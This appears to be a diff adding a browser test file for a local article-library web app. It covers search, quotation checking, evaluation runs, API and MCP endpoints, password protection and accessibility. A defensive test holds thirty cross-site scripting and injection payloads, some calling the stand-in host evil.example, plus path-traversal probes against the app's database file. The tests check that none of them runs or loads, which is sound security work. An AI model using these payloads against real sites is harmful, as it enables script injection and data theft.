@@ -1,0 +1,495 @@
+"""The library's table, quotations, evaluation and programs, on a served page in a real browser."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+
+import httpx
+import psutil
+import pytest
+from browsing import ARTICLES, Open, Parrot, Visit, free_port
+from fakes import WordEmbedder
+from gradio_client import Client
+from gradio_client.exceptions import AppError
+from playwright.sync_api import Browser, Page, expect
+
+from index.errors import InputError
+from index.library import Library
+from index.reading import find
+from ui.page import running
+from ui.shelf import adding
+
+pytestmark = pytest.mark.browser
+pytest_plugins = ["browsing"]
+
+AXE = Path(__file__).parent.parent / ".venv" / "axe-core-4.14.1" / "axe.min.js"
+VIEWS = ("Ask", "Library", "Check", "History", "Evaluate")
+
+PAYLOADS = (
+    "<script>hacked()</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=hacked()>",
+    "<img src='https://evil.example/p.png'>",
+    '"><img src=x onerror=hacked()>',
+    "'><svg onload=hacked()>",
+    "<svg><script>hacked()</script></svg>",
+    "<svg><a xlink:href='javascript:hacked()'><text>x</text></a></svg>",
+    "<iframe src='https://evil.example/'></iframe>",
+    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
+    "<a href='javascript:hacked()'>press</a>",
+    "<a href='JaVaScRiPt&colon;hacked()' class=citation>press</a>",
+    "[press](javascript:hacked())",
+    "![pixel](https://evil.example/q.png)",
+    "![x](x 'onerror=hacked()')",
+    "<link rel=stylesheet href='https://evil.example/s.css'>",
+    "<style>@import 'https://evil.example/s.css'; body { background: url(https://evil.example/b.png) }</style>",
+    "<body onload=hacked()>",
+    "<input autofocus onfocus=hacked()>",
+    "<details open ontoggle=hacked()>",
+    "<video><source onerror=hacked()></video>",
+    "<object data='https://evil.example/o.swf'></object>",
+    "<embed src='https://evil.example/e.swf'>",
+    "<form action='https://evil.example/'><button>press</button></form>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href='https://evil.example/'>",
+    "<math><mtext><style><img src=x onerror=hacked()></style></mtext></math>",
+    "{{constructor.constructor('hacked()')()}}",
+    "${hacked()}",
+    "<div style='background:url(https://evil.example/b.png)' onmouseover=hacked()>over</div>",
+)
+
+
+def library_of(folder: Path, texts: dict[str, str]) -> Library:
+    """A library of files with these names and contents."""
+    (folder / "articles").mkdir(parents=True)
+    for name, text in texts.items():
+        (folder / "articles" / name).write_text(text, encoding="utf-8")
+    library = Library(folder / "library", WordEmbedder())
+    assert {outcome.status for outcome in library.add(find([folder / "articles"]))} == {"added"}
+    return library
+
+
+def story(number: int) -> str:
+    outlet = ("Alba Post", "Herald", "Wend Courier")[number % 3]
+    return (
+        f"---\ntitle: Tide table {number:03}\ndate: 2018-{1 + number % 12:02}-17\noutlet: {outlet}\n---\n\n"
+        f"The tide stood at {number} metres on the morning of that day.\n"
+    )
+
+
+@pytest.fixture(scope="module")
+def tides(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Library]]:
+    """A page over 240 articles of three outlets."""
+    library = library_of(tmp_path_factory.mktemp("tides"), {f"tide{n:03}.md": story(n) for n in range(240)})
+    with running(library, Parrot(library), "127.0.0.1", free_port()) as address:  # type: ignore[arg-type]
+        yield address, library
+
+
+def show(page: Page, view: str) -> None:
+    page.get_by_role("tab", name=view, exact=True).click()
+
+
+def headlines(page: Page) -> list[str]:
+    return page.locator("#library tbody td.headline a").all_inner_texts()
+
+
+# ---- the library ----
+
+
+def test_the_table_searches_sorts_and_draws_what_is_in_sight(visit: Open, tides: tuple[str, Library]):
+    page = visit(at=tides[0]).page
+    show(page, "Library")
+    expect(page.locator(".shelf .count")).to_have_text("240 articles")
+    rows = page.locator("#library tbody tr")
+    for drawn in (100, 200, 240):
+        expect(rows).to_have_count(drawn)
+        page.locator("#library").evaluate("view => view.scrollTo(0, view.scrollHeight)")
+
+    page.fill(".shelf .words input", "table 23 wend")
+    expect(page.locator(".shelf .count")).to_have_text("5 of 240 articles")
+    page.get_by_role("button", name="Headline").click()
+    assert headlines(page) == [f"Tide table {n}" for n in ("023", "230", "233", "236", "239")]
+    page.get_by_role("button", name="Headline").click()
+    assert headlines(page)[0] == "Tide table 239"
+    expect(page.locator("th[data-column=title]")).to_have_attribute("aria-sort", "descending")
+    page.fill(".shelf .words input", "")
+    page.fill(".shelf .since input", "2018-12-01")
+    expect(page.locator(".shelf .count")).to_have_text("20 of 240 articles")
+
+
+def test_questions_are_restricted_to_what_the_table_shows_until_the_chip_is_pressed(
+    visit: Open, tides: tuple[str, Library]
+):
+    tab = visit(at=tides[0])
+    page = tab.page
+    show(page, "Library")
+    page.check("#library tr[data-id=tide007] input")
+    page.check("#library tr[data-id=tide019] input")
+    expect(page.locator(".shelf .count")).to_have_text("2 of 240 articles chosen")
+    page.get_by_role("button", name="Ask only these").click()
+    chip = page.locator("#only")
+    expect(chip).to_contain_text("Asking only: 2 articles")
+    expect(page.locator("#question textarea")).to_be_focused()
+    tab.ask_and_wait("How many metres stood the tide that morning?")
+    cited = page.locator("#chat a.source").evaluate_all("links => links.map(link => link.dataset.article)")
+    assert set(cited) == {"tide007", "tide019"}
+    chip.click()
+    expect(chip).to_be_hidden()
+
+
+def test_outlets_and_dates_restrict_in_words(visit: Open, tides: tuple[str, Library]):
+    page = visit(at=tides[0]).page
+    show(page, "Library")
+    page.fill(".shelf .since input", "2018-03-01")
+    page.click(".outlets summary")
+    page.locator(".choices").get_by_label("Herald").check()
+    page.keyboard.press("Escape")
+    expect(page.locator(".choices")).to_be_hidden()
+    page.get_by_role("button", name="Ask only these").click()
+    expect(page.locator("#only")).to_contain_text("Asking only: since 1 March 2018, Herald")
+
+
+def test_articles_are_removed_only_after_asking(visit: Open, browser: Browser, tmp_path: Path):
+    library = library_of(tmp_path, {f"tide{n}.md": story(n) for n in range(4)})
+    with running(library, Parrot(library), "127.0.0.1", free_port()) as address:  # type: ignore[arg-type]
+        page = visit(at=address).page
+        show(page, "Library")
+        page.check("#library tr[data-id=tide2] input")
+        page.click(".deed.remove")
+        expect(page.locator("#sure-question")).to_have_text("Remove 1 article from the library?")
+        page.keyboard.press("Escape")
+        expect(page.locator("dialog.sure")).to_be_hidden()
+        assert len(library.listings()) == 4
+        page.click(".deed.remove")
+        page.click("dialog.sure .yes")
+        expect(page.locator("#library tbody tr")).to_have_count(3)
+        assert {listing.id for listing in library.listings()} == {"tide0", "tide1", "tide3"}
+
+
+def test_cancelled_adding_keeps_what_was_added_and_says_so(tmp_path: Path):
+    library = library_of(tmp_path / "first", {"one.md": story(1)})
+    folder = tmp_path / "more"
+    folder.mkdir()
+    for n in range(10, 30):
+        (folder / f"tide{n}.md").write_text(story(n))
+    stop = threading.Event()
+    reports = adding(library, [folder], stop)
+    assert "1 of 20 files, 1 passage" in next(reports)
+    stop.set()
+    *_, last = reports
+    assert "Cancelled after 1 of 20 files: 1 added" in last
+    assert len(library.listings()) == 2
+
+
+def test_cancel_ends_adding_on_the_page(visit: Open, browser: Browser, tmp_path: Path):
+    library = library_of(tmp_path / "first", {"one.md": story(1)})
+    (tmp_path / "more").mkdir()
+    for n in range(100, 400):
+        (tmp_path / "more" / f"tide{n}.md").write_text(story(n))
+    embedder = library.embedder
+    embed = embedder.embed
+    embedder.embed = lambda texts: (time.sleep(0.02), embed(texts))[1]  # type: ignore[method-assign,func-returns-value]
+    with running(library, Parrot(library), "127.0.0.1", free_port()) as address:  # type: ignore[arg-type]
+        page = visit(at=address).page
+        show(page, "Library")
+        page.fill("#folder input", str(tmp_path / "more"))
+        page.click("#add")
+        expect(page.locator("#added progress")).to_be_visible()
+        page.click("#cancel")
+        expect(page.locator("#added .summary")).to_contain_text("Cancelled after")
+        expect(page.locator("#cancel")).to_be_hidden()
+    assert 1 < len(library.listings()) < 301
+
+
+# ---- quotations and texts ----
+
+
+def test_a_quotation_is_exact_altered_or_absent_and_opens_at_its_place(visit: Open):
+    page = visit().page
+    show(page, "Check")
+    page.fill("#quotation textarea", "The storm had torn away FORTY metres of the northern pier")
+    page.click("#look-up")
+    expect(page.locator("#found .outcome")).to_contain_text("✓ Exact")
+    page.fill("#quotation textarea", "“the storm had torn away fifty metres of the northern pier”")
+    page.click("#look-up")
+    expect(page.locator("#found .outcome")).to_contain_text("≈ Altered")
+    assert page.locator("#found .differences td").all_inner_texts() == ["fifty", "forty"]
+    page.click("#found a.source")
+    expect(page.locator("#reader mark.current")).to_have_text(
+        "The storm had torn away forty metres of the northern pier"
+    )
+    page.click("#reader .close")
+    page.fill("#quotation textarea", "Nobody ever wrote these words about elephants in Paris")
+    page.click("#look-up")
+    expect(page.locator("#found .outcome")).to_contain_text("✗ Absent")
+    page.fill("#quotation textarea", "…")
+    page.click("#look-up")
+    expect(page.locator("#found .error")).to_have_text("The quotation has no words; paste the words to look up.")
+
+
+def test_a_text_is_checked_sentence_by_sentence(visit: Open):
+    page = visit().page
+    show(page, "Check")
+    page.click("#check-text")
+    expect(page.locator("#verdicts .error")).to_have_text("There is no text to check; paste one.")
+    page.fill("#draft textarea", "Repairs cost two million crowns. Repairs cost five million crowns.")
+    page.click("#check-text")
+    sentences = page.locator("#verdicts .sentences > li")
+    expect(page.locator("#verdicts .outcome")).to_contain_text("2 sentences: 1 supported")
+    expect(sentences.nth(0).locator(".verdict")).to_have_text("✓ supported")
+    expect(sentences.nth(1).locator(".verdict")).not_to_have_text("✓ supported")
+    assert sentences.nth(1).locator(".differences td").all_inner_texts()[0].startswith("five")
+    sentences.nth(1).locator("a.source").first.click()
+    expect(page.locator("#reader mark.current")).to_have_text("Repairs cost two million crowns.")
+
+
+# ---- evaluation ----
+
+
+@pytest.fixture
+def question_set(tmp_path: Path) -> Path:
+    questions = [
+        {
+            "id": "pier",
+            "question": "How many metres of the northern pier?",
+            "answers": ["forty"],
+            "articles": ["harbour"],
+        },
+        {"id": "keeper", "question": "Who kept the lighthouse for thirty years?", "answers": ["Nobody"]},
+        {"id": "paris", "question": "Please refuse to tell of lighthouse", "kind": "unanswerable"},
+        {"id": "broken"},
+    ]
+    path = tmp_path / "questions.jsonl"
+    path.write_text("".join(json.dumps(question) + "\n" for question in questions))
+    return path
+
+
+def test_a_question_set_is_run_and_a_failure_opened_in_the_chat(visit: Open, question_set: Path):
+    page = visit().page
+    show(page, "Evaluate")
+    page.set_input_files("#question-set input[type=file]", question_set)
+    expect(page.locator("#question-set")).to_contain_text("questions")
+    page.click("#run")
+    expect(page.locator("#run-progress .outcome")).to_have_text("2 of 3 questions answered right")
+    expect(page.locator("#run-progress li")).to_contain_text("line 4")
+    expect(page.locator("#results figure svg").first).to_be_visible()
+    expect(page.locator("#results .case")).to_have_count(1)
+    expect(page.locator("#results .case .why")).to_have_text('The answer does not say "Nobody".')
+    with page.expect_download() as saved:
+        page.click("#save-report")
+    assert "2 of 3 questions answered right" in Path(saved.value.path()).read_text(encoding="utf-8")
+    page.click("#results button.try")
+    expect(page.locator("#chat .turn .asked")).to_have_text("Who kept the lighthouse for thirty years?")
+    expect(page.locator("#chat .turn")).to_have_attribute("data-stage", "done")
+
+
+def test_an_evaluation_is_stopped_and_goes_on_where_it_was(
+    visit: Open, question_set: Path, parrot: Parrot, paused: threading.Event
+):
+    page = visit().page
+    show(page, "Evaluate")
+    page.fill("#set-path input", str(question_set))
+    page.fill("#limit input", "2")
+    page.click("#run")
+    expect(page.locator("#run-progress .summary")).to_contain_text("0 of 2 questions")
+    page.click("#run-stop")
+    expect(page.locator("#run-progress .summary")).to_contain_text("Stopped after 0 of 2 questions.")
+    paused.clear()
+    page.click("#run")
+    expect(page.locator("#run-progress .outcome")).to_contain_text("of 2 questions answered right")
+
+
+def test_a_question_set_that_is_none_is_named(visit: Open):
+    page = visit().page
+    show(page, "Evaluate")
+    page.click("#run")
+    expect(page.locator("#run-progress .error")).to_have_text(
+        "No question set was named; drop a file, or give its path."
+    )
+
+
+# ---- programs ----
+
+
+def test_programs_call_four_functions_by_name_and_nothing_else(address: str):
+    client = Client(address, verbose=False)
+    told = client.view_api(return_format="dict")
+    assert set(told["named_endpoints"]) == {"/ask", "/quote", "/search", "/article"}
+    assert told["unnamed_endpoints"] == {}
+    answer = client.predict("Who kept the lighthouse for thirty years?", api_name="/ask")
+    assert answer["citations"][0]["quote"] == "Ana Ruiz kept the lighthouse for thirty years."
+    assert client.predict("kept the lighthouse", api_name="/quote")["verdict"] == "exact"
+    hits = client.predict("northern pier storm", 2, api_name="/search")
+    assert [set(hit) for hit in hits] == [{"article", "start", "end", "text", "score"}] * 2
+    assert client.predict("harbour", api_name="/article")["text"] == ARTICLES["harbour.txt"]
+    with pytest.raises(AppError, match='There is no article "gone" in the library'):
+        client.predict("gone", api_name="/article")
+    client.close()
+
+
+def test_the_same_functions_are_tools_of_the_model_context_protocol(parrot: Parrot):
+    from mcp import ClientSession
+    from mcp.client.streamable_http import streamablehttp_client
+
+    async def use(address: str) -> tuple[list[str], str]:
+        async with (
+            streamablehttp_client(f"{address}gradio_api/mcp/") as (reading, writing, _),
+            ClientSession(reading, writing) as session,
+        ):
+            await session.initialize()
+            tools = [tool.name for tool in (await session.list_tools()).tools]
+            result = await session.call_tool("quote", {"text": "kept the lighthouse"})
+            return tools, result.content[0].text
+
+    with (
+        running(parrot.library, parrot, "127.0.0.1", free_port(), mcp=True) as address,  # type: ignore[arg-type]
+        ThreadPoolExecutor() as pool,  # because Playwright's loop runs in this thread
+    ):
+        tools, text = pool.submit(lambda: asyncio.run(use(address))).result()
+    assert sorted(tools) == ["article", "ask", "quote", "search"]
+    assert "'verdict': 'exact'" in text
+
+
+# ---- strangers ----
+
+
+def test_other_machines_are_let_in_only_with_a_password(parrot: Parrot):
+    with pytest.raises(InputError) as raised, running(parrot.library, parrot, "0.0.0.0", free_port()):  # type: ignore[arg-type]
+        pass
+    assert str(raised.value) == (
+        "At 0.0.0.0 other machines could use the page; give it a password with --password or BYLINE_PASSWORD, "
+        "or leave --host out."
+    )
+    with running(parrot.library, parrot, "127.0.0.1", free_port(), "geheim") as address:  # type: ignore[arg-type]
+        for path in ("config", "gradio_api/info", "gradio_api/file=x", "gradio_api/queue/status"):
+            assert httpx.get(address + path).status_code == 401, path
+        asked = {"session_hash": "x", "component_id": 1, "fn_name": "list_articles", "data": None}
+        assert httpx.post(f"{address}gradio_api/component_server", json=asked).status_code == 401
+        assert httpx.post(f"{address}login", data={"username": "x", "password": "falsch"}).status_code == 400
+        with httpx.Client() as known:
+            assert known.post(f"{address}login", data={"username": "x", "password": "geheim"}).status_code == 200
+            assert known.get(f"{address}config").status_code == 200
+
+
+def test_more_than_one_request_may_hold_is_refused(address: str):
+    port = int(address.rsplit(":", 1)[1].strip("/"))
+    with socket.create_connection(("127.0.0.1", port)) as line:
+        head = f"POST /gradio_api/upload HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: {2**40}\r\n\r\n"
+        line.sendall(head.encode())
+        assert line.recv(64).split(b"\r\n")[0].startswith(b"HTTP/1.1 413")
+
+
+@pytest.mark.parametrize(
+    "path", ["library/library.sqlite", "library/passages.faiss", "library/../library/library.sqlite"]
+)
+def test_the_library_cannot_be_read_through_the_page(address: str, parrot: Parrot, path: str):
+    base = parrot.library.folder.parent
+    for spelled in (f"{base}/{path.replace('library', parrot.library.folder.name, 1)}", f"../../../..{base}/{path}"):
+        for door in ("gradio_api/file=", "file=", "gradio_api/file/", "static/", "assets/"):
+            answer = httpx.get(f"{address}{door}{spelled}")
+            assert answer.status_code in (403, 404), (door, spelled)
+            assert b"SQLite format" not in answer.content
+
+
+def test_thirty_hostile_articles_neither_run_nor_load_anything(visit: Open, browser: Browser, tmp_path: Path):
+    hostile = {
+        f"hostile{n:02}.md": f"---\ntitle: {json.dumps(f'Poison {n} {payload}')}\noutlet: {json.dumps(payload)}\n"
+        f"url: {json.dumps('https://example.org/' + payload)}\n---\n\nPoison number{n:02} says {payload} today.\n"
+        for n, payload in enumerate(PAYLOADS)
+    }
+    library = library_of(tmp_path, hostile)
+    with running(library, Parrot(library), "127.0.0.1", free_port()) as address:  # type: ignore[arg-type]
+        tab = visit(at=address)
+        page = tab.page
+        page.evaluate("() => { window.hacked = () => { window.wasHacked = true } }")
+        for n in range(0, len(PAYLOADS), 2):
+            tab.ask_and_wait(f"Poison number{n:02} number{n + 1:02}")
+        page.hover("a.citation >> nth=0")
+        show(page, "Library")
+        expect(page.locator("#library tbody tr")).to_have_count(len(PAYLOADS))
+        page.click(".outlets summary")
+        for n in range(len(PAYLOADS)):
+            page.click(f"#library tr[data-id=hostile{n:02}] a")
+            expect(page.locator("#reader .story")).to_have_attribute("data-article", f"hostile{n:02}")
+            expect(page.locator("#reader .story")).to_contain_text(f"Poison number{n:02} says")
+        show(page, "History")
+        page.wait_for_timeout(500)
+        show(page, "Check")
+        for payload in PAYLOADS:
+            page.fill("#quotation textarea", payload + " today Poison")
+            page.click("#look-up")
+            page.wait_for_function("document.querySelector('#found').textContent.trim() !== ''")
+        page.fill("#draft textarea", "\n\n".join(f"Poison says {payload} today." for payload in PAYLOADS))
+        page.click("#check-text")
+        expect(page.locator("#verdicts .outcome")).to_be_visible()
+        page.wait_for_timeout(300)
+        assert page.evaluate("window.wasHacked") is None
+        parts = ":is(#chat, #reader, #library, #card, #found, #verdicts, #history)"
+        forbidden = ":is(script, iframe, object, embed, video, base, meta, link, svg script, [onerror], [onload])"
+        assert page.locator(f"{parts} .html-container {forbidden}").count() == 0
+        links = page.locator(f"{parts} a").evaluate_all("links => links.map(link => link.protocol)")
+        assert set(links) <= {"http:", "https:"}
+    assert tab.outside == []
+
+
+def test_nothing_leaves_the_machine(visit: Open, address: str):
+    tab = visit()
+    tab.ask_and_wait("Who kept the lighthouse for thirty years?")
+    for view in VIEWS:
+        show(tab.page, view)
+    addresses = {connection.raddr.ip for connection in psutil.Process().net_connections("inet") if connection.raddr} | {
+        connection.laddr.ip for connection in psutil.Process().net_connections("inet")
+    }
+    assert addresses == {"127.0.0.1"}
+    assert tab.outside == []
+
+
+# ---- everybody ----
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_axe_finds_nothing_serious_in_any_view(visit: Open, scheme: str):
+    if not AXE.exists():
+        pytest.skip("needs axe-core: .ci/browser")
+    tab: Visit = visit(scheme=scheme)
+    page = tab.page
+    faults: list[str] = []
+
+    def look(what: str) -> None:
+        page.evaluate(AXE.read_text(encoding="utf-8"))
+        found = page.evaluate("axe.run(document, { resultTypes: ['violations'] })")
+        faults.extend(
+            f"{what}: {violation['id']} {node['target']} {node['failureSummary']}"
+            for violation in found["violations"]
+            if violation["impact"] in ("serious", "critical")
+            for node in violation["nodes"]
+        )
+
+    look("welcome")
+    tab.ask_and_wait("How many metres of the northern pier had the storm torn away?")
+    page.click("a.citation >> nth=0")
+    expect(page.locator("#reader mark.current")).to_be_visible()
+    look("answer and reader")
+    page.click("#reader .close")
+    show(page, "Library")
+    page.check("#library tbody tr:first-child input")
+    look("library")
+    show(page, "Check")
+    page.fill("#quotation textarea", "the storm had torn away fifty metres of the northern pier")
+    page.click("#look-up")
+    page.fill("#draft textarea", "Repairs cost five million crowns.")
+    page.click("#check-text")
+    expect(page.locator("#verdicts .outcome")).to_be_visible()
+    look("check")
+    show(page, "History")
+    look("history")
+    show(page, "Evaluate")
+    look("evaluate")
+    assert not faults, "\n".join(faults)
